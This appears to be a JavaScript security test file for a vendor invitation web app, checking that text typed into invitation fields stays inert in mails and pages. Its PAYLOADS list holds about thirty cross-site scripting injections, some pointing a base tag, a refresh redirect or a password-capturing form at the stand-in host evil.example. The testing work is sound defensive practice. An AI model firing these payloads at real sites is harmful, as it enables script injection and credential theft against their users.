// Whatever is typed is shown as text: on the pages of both sides, to people without an account, and in mails.

import assert from "node:assert/strict";
import { accept } from "../lib.mjs";
import { eachPage } from "../pages.mjs";

// Each would leave an element named `xss`, or one with `data-xss`, where it is taken for markup.
const PAYLOADS = [
  "<script data-xss>alert(1)</script>",
  '"><img data-xss src=x onerror=alert(2)>',
  "'><svg data-xss onload=alert(3)>",
  "</textarea><xss tabindex=1 autofocus onfocus=alert(4)>",
  "</title><xss onclick=alert(5)>five</xss>",
  "</style></script><xss>six</xss>",
  "</option></select><xss>seven</xss>",
  "javascript:alert(8)//<xss>",
  "--><xss>nine</xss><!--",
  "]]><xss>ten</xss><![CDATA[",
  "<a data-xss href=javascript:alert(11)>eleven</a>",
  '<iframe data-xss srcdoc="<script>alert(12)</script>"></iframe>',
  "<base data-xss href=//evil.example/>",
  "<meta data-xss http-equiv=refresh content=0;url=//evil.example>",
  "<form data-xss action=//evil.example><input name=password>",
  "<link data-xss rel=stylesheet href=//evil.example/x.css>",
  "<style data-xss>*{display:none}</style>",
  '" onmouseover="alert(18)" data-xss="',
  "' autofocus onfocus='alert(19)' data-xss='",
  "` onload=alert(20) data-xss=`",
  " data-xss onload=alert(21) ",
  "&lt;xss&gt;twenty-two&lt;/xss&gt;",
  "&#60;xss&#62;twenty-three",
  "\\u003cxss\\u003etwenty-four",
  "%3Cxss%3Etwenty-five",
  "{{constructor.constructor('alert(26)')()}}<xss>",
  "${alert(27)}<%= alert(27) %><xss>",
  "<<xss>script>alert(28)//<</script>",
  '<math data-xss><mi xlink:href="javascript:alert(29)">',
  '<object data-xss data="data:text/html,<script>alert(30)</script>"></object>',
  "<svg><animate data-xss onbegin=alert(31) attributeName=x dur=1s>",
  "http://evil.example/\" onclick=\"alert(32)\" data-xss=\"",
  "**[x](javascript:alert(33))** <xss>",
];

// Runs in the page: what became of a payload that was taken for markup.
function findMarks() {
  const marks = [...document.querySelectorAll("xss, [data-xss], base, iframe, object, embed")];
  const all = [...document.querySelectorAll("*")];
  const handlers = all.filter((element) => [...element.attributes].some(({ name }) => name.startsWith("on")));
  const links = all.filter((element) => /^\s*(javascript|data|vbscript):/i.test(element.getAttribute("href") ?? ""));
  return [...marks, ...handlers, ...links].map((element) => element.outerHTML.slice(0, 120));
}

async function mustBeClean(stage, page, what) {
  for (const mark of await page.evaluate(findMarks)) stage.complain(`${what} has markup of a payload: ${mark}`);
}

/** An invitation with the payload in every text that it has. */
function invitation(payload, number, company) {
  return {
    requestee_email: `person${number}@${company.domain}`,
    requestee_company_guid: company.guid,
    requestee_formal_name: payload,
    requestee_friendly_name: payload,
    requestee_phone: payload.slice(0, 60),
    message: `${payload}\n\n${payload} see http://example.com/${payload}`,
    notes: payload,
    third_parties: [{ name: payload, email: `third${number}@${company.domain}` }],
  };
}

/** Invites with the payload; what a rule refuses in one field is left out of that field. */
async function inviteWith(stage, payload, number, company) {
  const fields = invitation(payload, number, company);
  for (let tries = 0; tries < 4; tries += 1) {
    const body = { vendor_access_request: fields };
    const { status, json } = await stage.api("client", "POST", "/ratings/v1/access-requests", body);
    if (status === 201) return json;
    const name = /requestee_\w+|third_parties/.exec(json.detail)?.[0];
    assert.ok(name, JSON.stringify(json));
    fields[name] = name === "third_parties" ? [] : "Plain";
  }
  return assert.fail(`${payload} is refused everywhere`);
}

export async function payloads_of_an_invitation_stay_text(stage) {
  const page = await stage.open();
  // Mails are read in a window of their own: what is put into a page of the server inherits its content policy.
  const reader = await stage.open();
  for (const [number, payload] of PAYLOADS.entries()) {
    const { guid } = await inviteWith(stage, payload, number, stage.companies.saperix);
    const { introduction, activation } = await stage.mails(guid, ["introduction", "activation"]);
    for (const [kind, { message }] of Object.entries({ introduction, activation })) {
      await reader.setContent(message.html);
      await mustBeClean(stage, reader, `the ${kind} mail`);
      const header = `${message.subject} ${message.to} ${message.cc} ${message.reply_to}`;
      assert.doesNotMatch(header, /[\r\n]/, "a header is one line");
    }

    const shown = await page.goto(activation.link);
    assert.equal(shown.status(), 200);
    assert.ok((await page.locator("blockquote").innerText()).includes(payload), `${payload} is shown as it was typed`);
    await mustBeClean(stage, page, "the acceptance page");

    assert.equal((await accept(page, { name: payload, password: "short" })).status(), 422);
    assert.equal(await page.inputValue("[name=formal_name]"), payload);
    await mustBeClean(stage, page, "the refused acceptance form");
  }
}

export async function payloads_stay_text_on_every_page(stage) {
  for (const [number, payload] of PAYLOADS.entries()) {
    await inviteWith(stage, payload, number, stage.companies.saperix);
    await inviteWith(stage, payload, number, stage.companies.black_hills);
  }
  await eachPage(stage, (page, { route, as }) => mustBeClean(stage, page, `${route} (${as})`));
}
